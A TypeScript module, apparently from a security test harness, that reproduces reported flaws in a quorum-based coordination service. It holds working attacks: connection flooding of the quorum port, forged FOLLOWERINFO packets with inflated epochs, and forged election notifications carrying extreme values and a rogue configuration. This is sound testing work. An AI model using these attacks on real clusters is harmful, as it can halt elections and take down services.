/** Strangers at the ports that are meant for members. */
import { encodeHandshake } from '../../../../wire/election.js'
import { packetType, PROTOCOL_VERSION } from '../../../../wire/quorum/packet-type.js'
import { Writer } from '../../../../wire/writer.js'
import type { Arena, Item, Target } from '../item.js'
import { openSocket } from '../raw-client.js'
import { found, hold, sized } from '../tools.js'
import { destroyAll, openSockets } from './connections.js'

export const quorumSilent: Item = {
  name: 'quorum-silent',
  does: "Sixty-four silent connections to the leader's quorum port, renewed as they are closed, while a follower restarts.",
  after: 'issue 10 §3: the port was closed for 39 s',
  isQuick: false,
  meanwhile: 'restartFollower',
  afterwards: 'nothing',
  attack: async (arena) => {
    let sockets = await openSockets(arena.attacked.quorum, 64, arena.signal)
    const renewal = setInterval(() => {
      const gone = sockets.filter(({ destroyed }) => destroyed).length
      if (gone === 0) return
      sockets = sockets.filter(({ destroyed }) => !destroyed)
      void openSockets(arena.attacked.quorum, gone, arena.signal).then((more) => {
        sockets = [...sockets, ...more]
      })
    }, 500)
    const { length } = sockets
    for (const socket of sockets) socket.resume()
    await arena.underAttack()
    clearInterval(renewal)
    destroyAll(sockets)
    return found(`${length} silent connections`)
  },
}

/** FOLLOWERINFO or OBSERVERINFO: who speaks, and the newest epoch that he has accepted. */
export const introduction = (type: 'FOLLOWERINFO' | 'OBSERVERINFO', id: number, epoch: number): Uint8Array => {
  const writer = new Writer(64)
  writer.int(packetType[type])
  writer.zxid({ epoch, counter: 0 })
  const start = writer.beginFrame()
  writer.serverId(id)
  writer.int(PROTOCOL_VERSION)
  writer.long(0n)
  writer.endFrame(start)
  writer.count(-1)
  return writer.written()
}

const introduce = async (target: Target, bytes: Uint8Array): Promise<boolean> => {
  const socket = await openSocket(target.quorum)
  if (socket === undefined) return false
  socket.resume()
  await new Promise((resolve) => socket.write(bytes, resolve))
  setTimeout(() => socket.destroy(), 200)
  return true
}

/** Every server is tried: only one that leads has its quorum port open. */
const introduceToAll = async (arena: Arena, epoch: number): Promise<number> => {
  const targets = [arena.attacked, ...arena.others]
  const voters = targets.map(({ id }) => id)
  let sent = 0
  for (const target of targets) {
    const voter = voters.find((id) => id !== target.id) ?? target.id
    if (await introduce(target, introduction('FOLLOWERINFO', voter, epoch))) sent += 1
  }
  return sent
}

const ROUNDS = 35
const ROUND_MS = 570
const AFTER = 'issue 10 §3: 35 epochs in 20 s, 67 client errors'

export const epochRaise: Item = {
  name: 'epoch-raise',
  does: 'FOLLOWERINFO in the name of a voter that has accepted a newer epoch, to every quorum port, 35 times within 20 s.',
  after: AFTER,
  isQuick: true,
  afterwards: 'restartAll',
  attack: async (arena) => {
    let sent = 0
    for (let round = 1; round <= sized(arena, ROUNDS, 5) && !arena.signal.aborted; round += 1) {
      sent += await introduceToAll(arena, 1000 * round)
      await hold(arena, ROUND_MS)
    }
    return found(`${sent} packets to open quorum ports`)
  },
}

export const epochEnd: Item = {
  name: 'epoch-end',
  does: 'The same with the last epoch but one, 0x7ffffffe.',
  after: 'issue 10 §3: no election ever ended again',
  isQuick: false,
  afterwards: 'restartAll',
  attack: async (arena) => {
    let sent = 0
    for (let round = 1; round <= sized(arena, ROUNDS, 5) && !arena.signal.aborted; round += 1) {
      sent += await introduceToAll(arena, 0x7fff_fffe)
      await hold(arena, ROUND_MS)
    }
    return found(`${sent} packets to open quorum ports`)
  },
}

// --- the election port

interface Forgery {
  readonly state: number
  readonly leader: bigint
  readonly zxid: bigint
  readonly round: bigint
  readonly peerEpoch: bigint
  readonly configuration: string
}

const notification = ({ configuration, leader, peerEpoch, round, state, zxid }: Forgery): Uint8Array => {
  const writer = new Writer(256)
  const start = writer.beginFrame()
  writer.int(state)
  writer.long(leader)
  writer.long(zxid)
  writer.long(round)
  writer.long(peerEpoch)
  writer.int(2)
  writer.string(configuration)
  writer.endFrame(start)
  return writer.written()
}

const LARGEST = 0x7fff_ffff_ffff_ffffn
const NUMBERS = [LARGEST, -LARGEST, 0x7fff_fffen, 1n << 53n, 0n, -1n]
const NEWER = 'server.77=127.0.0.1:1:2:participant\nversion=7fffffff00000000'

const forgeries = (leader: number): readonly Uint8Array[] =>
  NUMBERS.flatMap((number) =>
    [0, 1, 2, 3].map((state) =>
      notification({
        state,
        leader: BigInt(leader),
        zxid: number,
        round: number,
        peerEpoch: number,
        configuration: state % 2 === 0 ? NEWER : '',
      }),
    ),
  )

const forge = async (target: Target, id: number): Promise<number> => {
  const socket = await openSocket(target.election)
  if (socket === undefined) return 0
  socket.resume()
  const bytes = [encodeHandshake({ id, addresses: ['127.0.0.1:1'] }), ...forgeries(id)]
  // The handshake goes alone: a server reads it in one piece.
  for (const part of bytes) await new Promise((resolve) => socket.write(part, resolve))
  setTimeout(() => socket.destroy(), 300)
  return bytes.length - 1
}

const forgeToAll = async (arena: Arena): Promise<number> => {
  const targets = [arena.attacked, ...arena.others]
  const largest = targets.reduce((most, { id }) => Math.max(most, id), 0)
  let sent = 0
  for (const target of targets) for (const id of [77, largest]) sent += await forge(target, id)
  return sent
}

export const forgedNotification: Item = {
  name: 'forged-notification',
  does: 'Notifications of a stranger, and in the name of a member, with extreme numbers and a newer configuration, before, while and after a follower restarts.',
  after: 'issue 10 §3: a configuration of a stranger was written everywhere, and no quorum came about again',
  isQuick: false,
  // Without it nobody takes a configuration from anybody.
  settings: ['reconfigEnabled=true'],
  meanwhile: 'restartFollower',
  afterwards: 'restartAll',
  attack: async (arena) => {
    let sent = await forgeToAll(arena)
    let isOver = false
    const meanwhile = arena.underAttack().then(() => {
      isOver = true
    })
    while (!isOver && !arena.signal.aborted) {
      sent += await forgeToAll(arena)
      await hold(arena, 10)
    }
    await Promise.race([meanwhile, hold(arena, 60_000)])
    sent += await forgeToAll(arena)
    return found(`${sent} forged notifications`)
  },
}
